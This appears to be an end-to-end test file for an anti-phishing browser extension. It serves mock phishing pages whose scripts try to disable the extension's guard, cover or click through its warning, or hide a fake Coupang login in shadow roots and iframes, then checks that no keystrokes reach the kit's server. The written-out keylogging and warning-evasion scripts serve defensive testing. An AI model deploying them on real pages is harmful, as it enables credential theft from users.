import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, type Session } from '../harness';
import { notWarned, startReady, waitForPageVerdict } from '../page-helpers';
import {
  F01,
  F01_BODY,
  KEYLOGGER,
  PASSWORD,
  allowances,
  attackSettled,
  expectPageWarning,
  first,
  js,
  kit,
  stolen,
  userTypes,
} from './kit';

/**
 * Issue #10, attacks 1–5: a kit that has read entrypoints/content/ tries to switch the page guard off, cover
 * its warning, click through it, drop its modality, or hide from the scan. Each test serves the kit's page,
 * lets its script attack, plays the user, and asserts what the user would lose: keys that reached the
 * kit's server, an allowance created, a fake page never judged. (Attacks 6–10, the background's side, are
 * in the other files of this folder.)
 */
const CHROME_ID = 'kacgcpbgjlnmmbneikbojlbinmemhkpo';
const GECKO_ID = 'coupang-guard@coupangguard.org';

/** Lets the kit's last beacons reach its server. */
const settle = () => new Promise((r) => setTimeout(r, 1_000));

forEachBrowser('hostile page vs. content script', (ctx) => {
  let s: Session;

  beforeAll(async () => {
    s = await startReady(ctx);
  });

  test('1. switch-off: WXT\'s "script started" event, dispatched and posted by the page, ends nothing', async () => {
    const host = 'switch-off.example.test';
    // The page fires the invalidation event under both browsers' ids and under any name the extension
    // announces, from its first script and every 50 ms for 4 s, then waits for the user.
    const attack = `<script>
(function () {
  var names = ${js([CHROME_ID, GECKO_ID].map((id) => `${id}:content:wxt:content-script-started`))};
  window.addEventListener('message', function (e) {
    var t = e.data && e.data.type;
    if (typeof t === 'string' && t.indexOf('content-script-started') >= 0 && names.indexOf(t) < 0) names.push(t);
  });
  function fire() {
    names.forEach(function (n) {
      document.dispatchEvent(new CustomEvent(n, { detail: { contentScriptName: 'content', messageId: 'attacker' } }));
      window.postMessage({ type: n, contentScriptName: 'content', messageId: 'attacker' }, '*');
    });
  }
  fire();
  var n = 0, t = setInterval(function () { fire(); if (++n === 80) { clearInterval(t); steal('ready', 1); } }, 50);
})();
</script>`;
    ctx.server.page(host, '/login', kit(attack));
    const url = ctx.server.url(host, '/login');
    const tab = await s.newTab(url);
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await userTypes(tab, PASSWORD, 'hunter2');
    await settle();
    // The extension announced nothing to the page, and no key reached the kit …
    expect(stolen(ctx.server, host, 'message').map((r) => r.path)).toEqual([]);
    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
    expect(stolen(ctx.server, host, 'input').map((r) => r.path)).toEqual([]);
    // … because the guard still ran: the tab is on the warning page.
    const w = await expectPageWarning(s, tab);
    expect(w.kind).toBe('suspicious-page');
    expect(w.state?.page?.verdict).toBe('suspicious-page');
    await tab.close();
  });

  test("2. cover: the page's own modal dialog, popover and fullscreen over the warning get no key", async () => {
    const host = 'cover.example.test';
    // A fake password box that is not an <input> (a focusable div), in the page's own modal <dialog>, shown
    // again and again so it stays on top of the top layer, plus a popover and a fullscreen request.
    const cover = `<dialog id="cover" style="padding:40px"><p>쿠팡 보안 인증</p>
<div id="fake" tabindex="0" role="textbox" style="width:260px;height:32px;border:1px solid #888">비밀번호</div></dialog>
<div id="pop" popover="manual" style="top:0;left:0;margin:0">쿠팡 안내</div>`;
    const attack = `<script>
document.addEventListener('DOMContentLoaded', function () {
  document.body.insertAdjacentHTML('beforeend', ${js(cover)});
  var d = document.getElementById('cover'), f = document.getElementById('fake'), p = document.getElementById('pop');
  f.addEventListener('keydown', function (e) { steal('key', 'fake:' + e.key); });
  document.addEventListener('click', function () { try { document.documentElement.requestFullscreen(); } catch (e) {} }, true);
  var rounds = 0;
  (function top() {
    try { if (d.open) d.close(); d.showModal(); p.hidePopover && p.matches(':popover-open') && p.hidePopover(); p.showPopover && p.showPopover(); f.focus(); } catch (e) {}
    if (++rounds === 8) steal('ready', 1);
    setTimeout(top, 250);
  })();
});
</script>`;
    ctx.server.page(host, '/login', kit(attack));
    const url = ctx.server.url(host, '/login');
    const tab = await s.newTab(url);
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await userTypes(tab, '#fake', 'hunter2');
    await userTypes(tab, PASSWORD, 'hunter2');
    await settle();
    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
    expect(stolen(ctx.server, host, 'input').map((r) => r.path)).toEqual([]);
    const w = await expectPageWarning(s, tab);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  });

  test('2b. the hold: a page that tries to keep the tab (beforeunload) gets no key, whatever has focus, and the tab leaves', async () => {
    const host = 'stay.example.test';
    // The kit shows a harmless button; the user's click (user activation) makes it inject the login form,
    // refuse to unload, and focus a div posing as a field inside its own modal dialog.
    const page = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>쿠팡</title></head>
<body><button id="go" style="position:fixed;left:10px;top:10px;width:200px;height:40px">확인</button>
<dialog id="cover"><div id="fake" tabindex="0" style="width:200px;height:30px">비밀번호</div></dialog>
<script>
document.getElementById('go').addEventListener('click', function () {
  var box = document.createElement('div');
  box.innerHTML = ${js(F01_BODY)};
  document.body.appendChild(box);
  window.addEventListener('beforeunload', function (e) { e.preventDefault(); e.returnValue = ''; });
  var d = document.getElementById('cover'), f = document.getElementById('fake');
  setTimeout(function () { try { d.showModal(); f.focus(); } catch (e) {} steal('ready', 1); }, 300);
});
</script></body></html>`;
    ctx.server.page(host, '/', first(page, KEYLOGGER));
    const url = ctx.server.url(host, '/');
    const tab = await s.newTab(url);
    await tab.bringToFront();
    await tab.waitFor(() => document.readyState === 'complete');
    await tab.click('#go');
    await attackSettled(s, tab, ctx.server, host);
    await new Promise((r) => setTimeout(r, 1_500));
    await userTypes(tab, '#fake', 'hunter2');
    await userTypes(tab, PASSWORD, 'hunter2');
    await settle();
    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
    expect(stolen(ctx.server, host, 'input').map((r) => r.path)).toEqual([]);
    // the page's beforeunload handler never ran: the tab is on the warning page
    expect((await expectPageWarning(s, tab)).kind).toBe('suspicious-page');
    await tab.close();
  });

  test('3. click-through: a pointer-events:none decoy in a popover does not turn a click into "Continue anyway"', async () => {
    const host = 'click-through.example.test';
    // A full-width "claim your coupon" decoy over the lower half of the viewport, where the warning's buttons
    // are; pointer-events:none passes the click to whatever is under it.
    const decoy = `<div id="decoy" popover="manual" style="pointer-events:none;position:fixed;inset:auto 0 0 0;height:60vh;
margin:0;border:0;background:#ff5a1f;color:#fff;font:700 32px sans-serif;display:flex;align-items:center;justify-content:center">쿠폰 받기 ▶</div>`;
    const attack = `<script>
document.addEventListener('DOMContentLoaded', function () {
  document.body.insertAdjacentHTML('beforeend', ${js(decoy)});
  var p = document.getElementById('decoy'), n = 0;
  (function top() { try { if (p.matches(':popover-open')) p.hidePopover(); p.showPopover(); } catch (e) {} if (++n === 6) steal('ready', 1); setTimeout(top, 250); })();
});
</script>`;
    ctx.server.page(host, '/login', kit(attack));
    const url = ctx.server.url(host, '/login');
    const tab = await s.newTab(url);
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    // The user clicks the decoy, across its width, as one would a big button.
    for (const x of [0.5, 0.35, 0.65, 0.8]) {
      for (const y of [0.6, 0.7, 0.8, 0.9]) {
        if (!(await notWarned(s, tab))) break;
        await tab.mouseClick(1100 * x, 800 * y).catch(() => undefined);
      }
    }
    await new Promise((r) => setTimeout(r, 1_000));
    expect((await allowances(s)).map((a) => a.host)).not.toContain(host);
    const w = await expectPageWarning(s, tab);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  });

  test('4a. the second chance reaches a box in a closed shadow root (the page speaks as the brand in a sentence only)', async () => {
    const host = 'closed-box.example.test';
    // Below the page warning's bar (no logo, no title: one sentence in the brand's voice); the password box is
    // in a closed shadow root, where a key event is seen at its host.
    const html = `<!doctype html><html lang="ko"><head><meta charset="utf-8">${KEYLOGGER}<title>1:1 문의</title></head><body>
<p>안녕하세요. 쿠팡 회원정보 유출 전담 상담창구입니다. 계정 확인을 위해 아래에 비밀번호를 입력해 주세요.</p>
<div id="box" style="width:320px;height:44px"></div>
<script>
var r = document.getElementById('box').attachShadow({ mode: 'closed' });
r.innerHTML = '<input type="password" name="pw" style="width:320px;height:44px;box-sizing:border-box">';
r.querySelector('input').addEventListener('keydown', function (e) { steal('key', e.key); });
steal('ready', 1);
</script></body></html>`;
    ctx.server.page(host, '/chat', html);
    const tab = await s.newTab(ctx.server.url(host, '/chat'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    // judged clean first (the scorer is in the page: the moment before it arrives is another test's)
    await waitForPageVerdict(s, await s.tabIdOf('/chat'), 'clean');
    expect(await notWarned(s, tab)).toBe(true);
    await userTypes(tab, '#box', 'hunter2');
    await settle();
    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
    const w = await expectPageWarning(s, tab);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  });

  test('4. drop modality: remove() of our nodes and document.open() bring back no typing', async () => {
    const host = 'document-open.example.test';
    // After the page loaded: remove anything the extension put in the page, then replace the document with
    // document.open(): a fresh login form, a keylogger registered again, a z-index div over everything.
    const fresh = `<!doctype html><html><head><title>쿠팡</title></head><body>
<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">
<img alt="쿠팡" src="data:,"><h1>쿠팡 로그인</h1><form action="http://collect.example.test/p">
<input id="pw" type="password" name="password" placeholder="비밀번호"></form></div></body></html>`;
    const attack = `<script>
window.addEventListener('load', function () {
  setTimeout(function () {
    document.querySelectorAll('body > *:not(div):not(script), html > *:not(head):not(body)').forEach(function (n) { n.remove(); });
    var steal = window.steal, logKeys = window.logKeys;
    document.open();
    logKeys();
    document.write(${js(fresh)});
    document.close();
    steal('ready', 1);
  }, 600);
});
</script>`;
    ctx.server.page(host, '/login', kit(attack));
    const url = ctx.server.url(host, '/login');
    const tab = await s.newTab(url);
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await userTypes(tab, '#pw', 'hunter2');
    await userTypes(tab, PASSWORD, 'hunter2');
    await settle();
    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
    expect(stolen(ctx.server, host, 'input').map((r) => r.path)).toEqual([]);
    const w = await expectPageWarning(s, tab);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  });

  /** A page whose head claims Coupang (f01's head) and whose body is `body`. */
  const withBody = (body: string) => F01.replace(/<body([^>]*)>[\s\S]*<\/body>/i, `<body$1>${body}</body>`);
  const shadow = (mode: 'open' | 'closed') =>
    withBody(`<div id="app"></div><script>
document.getElementById('app').attachShadow({ mode: '${mode}' }).innerHTML = ${js(F01_BODY)};
</script>`);
  const srcdoc = (html: string) => html.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
  const PLAIN = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>잠시만요</title></head>
<body><p>로딩 중…</p>`;
  /** A bare password form: no brand of its own. */
  const BARE_FORM = `<!doctype html><html><head><meta charset="utf-8"></head><body>
<form action="/p"><input type="password" name="password" placeholder="비밀번호"><button>확인</button></form></body></html>`;

  const hiding: { name: string; setup: (host: string) => string }[] = [
    { name: 'open shadow root', setup: () => shadow('open') },
    { name: 'closed shadow root', setup: () => shadow('closed') },
    {
      name: '<iframe srcdoc>',
      setup: () =>
        `${PLAIN}<iframe srcdoc="${srcdoc(F01)}" style="width:100%;height:700px;border:0"></iframe></body></html>`,
    },
    {
      name: 'same-origin iframe',
      setup: (host) => {
        ctx.server.page(host, '/inner', F01);
        return `${PLAIN}<iframe src="/inner" style="width:100%;height:700px;border:0"></iframe></body></html>`;
      },
    },
    {
      name: 'cross-origin iframe',
      setup: () => {
        ctx.server.page('frame-host.example.test', '/inner', F01);
        return `${PLAIN}<iframe src="${ctx.server.url('frame-host.example.test', '/inner')}" style="width:100%;height:700px;border:0"></iframe></body></html>`;
      },
    },
    {
      name: 'brand in the top page, password box in a cross-origin frame',
      setup: () => {
        ctx.server.page('form-host.example.test', '/form', BARE_FORM);
        const top = F01.replace(/<form[\s\S]*<\/form>/i, '');
        return top.replace(
          /<\/body>/i,
          `<iframe src="${ctx.server.url('form-host.example.test', '/form')}" style="width:400px;height:120px"></iframe></body>`,
        );
      },
    },
    {
      name: 'closed shadow root filled after 25 harmless changes (the old rescan budget was 20)',
      setup: () =>
        withBody(`<div id="feed"></div><div id="app"></div><script>
var n = 0, root = document.getElementById('app').attachShadow({ mode: 'closed' });
var t = setInterval(function () {
  var img = document.createElement('img'); img.alt = 'banner ' + n; document.getElementById('feed').appendChild(img);
  if (++n === 25) { clearInterval(t); root.innerHTML = ${js(F01_BODY)}; }
}, 450);
</script>`).replace(/<title>[\s\S]*?<\/title>/i, '<title>쿠팡</title>'),
    },
  ];

  for (const [i, h] of hiding.entries()) {
    test(`5. hide from the scan: a fake login in a ${h.name} is judged`, async () => {
      const host = `hide-${i}.example.test`;
      ctx.server.page(host, '/login', h.setup(host));
      const url = ctx.server.url(host, '/login');
      const tab = await s.newTab(url);
      // The fake is judged (the background's verdict for the tab) …
      await waitForPageVerdict(s, await s.tabIdOf(host), 'suspicious-page', 25_000);
      // … and the tab is on the warning page.
      const w = await expectPageWarning(s, tab);
      expect(w.kind).toBe('suspicious-page');
      expect(w.state?.page?.verdict).toBe('suspicious-page');
      expect(w.state?.page?.reasons.map((r) => r.code)).toContain('asks-password');
      await tab.close();
    });
  }

  test('the warning page\'s "Continue anyway" returns to the page with an allowance, unwarned', async () => {
    const host = 'continue.example.test';
    ctx.server.page(host, '/login', F01);
    const url = ctx.server.url(host, '/login');
    const tab = await s.newTab(url);
    await tab.bringToFront();
    await expectPageWarning(s, tab);
    await tab.evaluate(() => {
      document.querySelector('details.more')?.setAttribute('open', '');
      document.querySelector<HTMLButtonElement>('[data-action="continue"]')?.click();
    });
    await tab.waitForUrl((u) => u === url);
    await tab.waitFor(() => document.readyState === 'complete');
    expect((await allowances(s)).map((a) => a.host)).toContain(host);
    await new Promise((r) => setTimeout(r, 1_500));
    expect(tab.url()).toBe(url);
    await tab.type(PASSWORD, 'hunter2');
    expect(
      await tab.evaluate((sel: string) => document.querySelector<HTMLInputElement>(sel)?.value, PASSWORD),
    ).toBe('hunter2');
    await tab.close();
  });

  test('no page can reach the warning page with a page verdict it made up', async () => {
    const host = 'forged.example.test';
    const url = ctx.server.url(host, '/');
    const tab = await s.newTab(s.extensionUrl(`warning.html?u=${encodeURIComponent(url)}&v=suspicious-page`));
    await tab.waitFor(() => document.querySelector('main') !== null, undefined, 10_000);
    expect(
      await tab.evaluate(() => document.querySelector<HTMLElement>('main')?.dataset.kind ?? null),
    ).not.toBe('suspicious-page');
    expect((await allowances(s)).map((a) => a.host)).not.toContain(host);
    await tab.close();
  });
});
